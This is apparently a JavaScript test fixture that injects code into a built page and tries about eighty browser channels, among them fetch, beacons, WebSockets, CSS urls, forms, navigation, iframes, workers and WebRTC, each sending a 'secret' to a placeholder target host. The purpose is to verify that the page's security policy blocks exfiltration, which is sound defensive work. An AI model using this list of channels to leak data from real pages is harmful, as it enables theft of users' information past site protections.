// What an attacker would try who runs code in the application's frame. The attack test puts this into the built page
// with its hash allowed, and calls one channel after the other, each in a page of its own.
(() => {
  const target = '%TARGET%';
  const stun = '%STUN%';
  const url = (name, scheme) => `${scheme ? target.replace('http', scheme) : target}/${name}?secret=${name}`;

  const element = (tag, attributes, parent = document.body) => {
    const made = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    parent.append(made);
    return made;
  };
  const link = (name, rel, more = {}) => element('link', { rel, href: url(name), ...more }, document.head);
  const sheet = (text) => {
    const made = new CSSStyleSheet();
    made.replaceSync(text);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, made];
  };
  const worker = (code) => new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  const svg = (tag, attributes, parent) => {
    const made = document.createElementNS('http://www.w3.org/2000/svg', tag);
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    parent.append(made);
    return made;
  };
  const form = (name, attributes) => {
    const made = element('form', { action: url(name), ...attributes });
    element('input', { name: 'secret', value: 'x' }, made);
    made.submit();
  };
  const anchor = (attributes) => element('a', attributes).click();

  window.channels = {
    fetch: (n) => fetch(url(n)),
    'fetch-no-cors': (n) => fetch(url(n), { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true }),
    xhr: (n) => {
      const request = new XMLHttpRequest();
      request.open('POST', url(n));
      request.send('x');
    },
    websocket: (n) => new WebSocket(url(n, 'ws')),
    eventsource: (n) => new EventSource(url(n)),
    beacon: (n) => navigator.sendBeacon(url(n), 'x'),
    image: (n) => {
      new Image().src = url(n);
    },
    'image-srcset': (n) => element('img', { srcset: `${url(n)} 1x` }),
    'input-image': (n) => element('input', { type: 'image', src: url(n) }),
    'svg-image': (n) => svg('image', { href: url(n), width: 9, height: 9 }, svg('svg', {}, document.body)),
    video: (n) => element('video', { src: url(n), preload: 'auto' }),
    'video-poster': (n) => element('video', { poster: url(n) }),
    audio: (n) => element('audio', { src: url(n), preload: 'auto' }),
    object: (n) => element('object', { data: url(n) }),
    embed: (n) => element('embed', { src: url(n) }),
    fontface: (n) => new FontFace('x', `url(${url(n)})`).load(),
    'css-font': (n) => {
      sheet(`@font-face{font-family:evil;src:url(${url(n)})}body{font-family:evil!important}`);
      element('p', {}).textContent = 'text';
    },
    'css-url': (n) => sheet(`body{background-image:url(${url(n)})!important}`),
    'css-cursor': (n) => sheet(`body{cursor:url(${url(n)}),auto!important}`),
    'css-content': (n) => sheet(`body::after{content:url(${url(n)})}`),
    'style-attribute': (n) => element('p', { style: `background:url(${url(n)})` }),
    'style-property': (n) => {
      element('p', {}).style.backgroundImage = `url(${url(n)})`;
    },
    'style-import': (n) => {
      element('style', {}, document.head).textContent = `@import url(${url(n)});`;
    },
    'link-stylesheet': (n) => link(n, 'stylesheet'),
    'link-prefetch': (n) => link(n, 'prefetch'),
    'link-preload': (n) => link(n, 'preload', { as: 'image' }),
    'link-modulepreload': (n) => link(n, 'modulepreload'),
    'link-preconnect': (n) => link(n, 'preconnect'),
    'link-dns-prefetch': (n) => link(n, 'dns-prefetch'),
    'link-icon': (n) => link(n, 'icon'),
    'link-manifest': (n) => link(n, 'manifest'),
    'script-src': (n) => element('script', { src: url(n) }),
    // As a part of the page is fetched, whose hash the outer page's policy allows.
    'script-part': (n) => element('script', { src: url(n), integrity: '%PART%', crossOrigin: 'anonymous' }),
    'import-call': (n) => import(url(n)),
    speculation: (n) => {
      element('script', { type: 'speculationrules' }).textContent = JSON.stringify({
        prefetch: [{ source: 'list', urls: [url(n)] }],
      });
    },
    'form-get': (n) => form(n, { method: 'get' }),
    'form-post': (n) => form(n, { method: 'post' }),
    'form-blank': (n) => form(n, { method: 'post', target: '_blank' }),
    'form-top': (n) => form(n, { method: 'post', target: '_top' }),
    open: (n) => window.open(url(n)),
    'open-then-go': (n) => {
      window.open('about:blank').location = url(n);
    },
    location: (n) => {
      location.href = url(n);
    },
    'top-location': (n) => {
      top.location.href = url(n);
    },
    'parent-replace': (n) => parent.location.replace(url(n)),
    'navigation-api': (n) => navigation.navigate(url(n)),
    anchor: (n) => anchor({ href: url(n) }),
    'anchor-blank': (n) => anchor({ href: url(n), target: '_blank' }),
    'anchor-top': (n) => anchor({ href: url(n), target: '_top' }),
    'anchor-download': (n) => anchor({ href: url(n), download: 'x' }),
    'anchor-ping': (n) => anchor({ href: '#x', ping: url(n) }),
    'meta-refresh': (n) => element('meta', { 'http-equiv': 'refresh', content: `0;url=${url(n)}` }, document.head),
    base: (n) => {
      element('base', { href: `${target}/` }, document.head);
      element('img', { src: n });
    },
    iframe: (n) => element('iframe', { src: url(n) }),
    'iframe-blank': (n) => {
      const inner = element('iframe', {});
      inner.contentWindow.fetch(url(n));
    },
    'iframe-go': (n) => {
      element('iframe', {}).contentWindow.location = url(n);
    },
    'iframe-srcdoc': (n) => {
      element('iframe', {}).srcdoc = `<img src="${url(n)}">`;
    },
    'iframe-refresh': (n) => {
      element('iframe', {}).srcdoc = `<meta http-equiv="refresh" content="0;url=${url(n)}">`;
    },
    'iframe-preconnect': (n) => {
      element('iframe', {}).srcdoc = `<link rel="preconnect" href="${url(n)}"><link rel="prefetch" href="${url(n)}">`;
    },
    'iframe-blob': (n) => {
      const page = new Blob([`<img src="${url(n)}">`], { type: 'text/html' });
      element('iframe', { src: URL.createObjectURL(page) });
    },
    'open-blob': (n) => window.open(URL.createObjectURL(new Blob([`<img src="${url(n)}">`], { type: 'text/html' }))),
    'worker-url': (n) => new Worker(url(n)),
    'worker-fetch': (n) => worker(`fetch('${url(n)}', { mode: 'no-cors' })`),
    'worker-xhr': (n) => worker(`const x = new XMLHttpRequest(); x.open('GET', '${url(n)}', false); x.send()`),
    'worker-websocket': (n) => worker(`new WebSocket('${url(n, 'ws')}')`),
    'worker-eventsource': (n) => worker(`new EventSource('${url(n)}')`),
    'worker-importscripts': (n) => worker(`importScripts('${url(n)}')`),
    'worker-import': (n) => worker(`import('${url(n)}')`),
    'worker-fontface': (n) => worker(`new FontFace('x', 'url(${url(n)})').load()`),
    'worker-nested': (n) =>
      worker(`new Worker(URL.createObjectURL(new Blob(["fetch('${url(n)}', { mode: 'no-cors' })"])))`),
    'worker-nested-url': (n) => worker(`new Worker('${url(n)}')`),
    'shared-worker': (n) =>
      new SharedWorker(URL.createObjectURL(new Blob([`fetch('${url(n)}', { mode: 'no-cors' })`]))),
    'audio-worklet': (n) => new AudioContext().audioWorklet.addModule(url(n)),
    webrtc: async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${stun}` }] });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
    },
    'webrtc-iframe': async () => {
      const { RTCPeerConnection: Peer } = element('iframe', {}).contentWindow;
      const peer = new Peer({ iceServers: [{ urls: `stun:${stun}` }] });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
    },
  };
  window.attack = async (names, patience) => {
    for (const name of names) {
      const waited = new Promise((done) => setTimeout(done, patience));
      const tried = (async () => window.channels[name](name))();
      await Promise.race([tried.catch(() => undefined), waited]);
    }
  };
})();
